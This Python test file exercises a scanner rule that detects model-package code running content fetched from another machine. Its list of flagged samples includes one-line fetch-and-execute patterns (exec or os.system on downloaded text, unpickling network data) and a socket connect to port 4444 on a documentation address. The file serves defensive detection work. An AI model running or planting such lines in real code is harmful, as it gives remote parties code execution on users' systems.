"""PYC004: what another machine sends and the program runs."""

from __future__ import annotations

import pytest

from code_samples import HARMLESS, code_findings, fails
from modelkeep.scan.python_download import DETECTOR

BAD = [
    'import requests\nexec(requests.get("https://x/y").text)',
    'from urllib.request import urlopen\nexec(urlopen("https://x/y").read().decode())',
    'import urllib.request as u, pickle\npickle.loads(u.urlopen("https://x/y").read())',
    'import requests, os\nos.system(requests.get("https://x/y").text)',
    'import requests\nr = requests.get("https://x")\nopen("/tmp/a.py", "wb").write(r.content)',
    'import urllib.request\nurllib.request.urlretrieve("https://x/y", "/tmp/a.so")',
    'import socket\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))',
    'import requests\nrequests.get("http://203.0.113.7/x")',
    (
        "import socket\n"
        "class M:\n"
        "    def __init__(self):\n"
        '        socket.create_connection(("host", 1))'
    ),
    'import requests\nwith requests.Session() as s:\n    exec(s.get("https://x").text)',
    'import requests\ndef get():\n    return requests.get("https://x").text\nexec(get())',
]


@pytest.mark.parametrize("text", BAD)
def test_it_is_found(text: str) -> None:
    assert fails(DETECTOR, text)


@pytest.mark.parametrize(
    "text",
    [
        (
            "import requests\n"
            "from PIL import Image\n"
            'Image.open(requests.get("https://x/y.jpg", stream=True).raw)'
        ),
        (
            "import requests\n"
            'open("data.json", "wb").write(requests.get("https://x/y.json").content'
            ")"
        ),
        'import socket\ns = socket.socket()\ns.bind(("", 0))',
        (
            "import urllib.request\n"
            'urllib.request.urlretrieve("https://x/w.safetensors", "w.safetensors")'
        ),
        'import requests\nrequests.get("http://127.0.0.1:8000/health")',
    ],
)
def test_it_is_not_confused_with(text: str) -> None:
    assert not fails(DETECTOR, text)


@pytest.mark.parametrize("name", HARMLESS)
def test_code_of_honest_models_does_not_fail(name: str) -> None:
    assert not fails(DETECTOR, HARMLESS[name], name)


def test_a_module_without_it_is_silent() -> None:
    assert code_findings(DETECTOR, "import math\nmath.sqrt(4)\n") == []
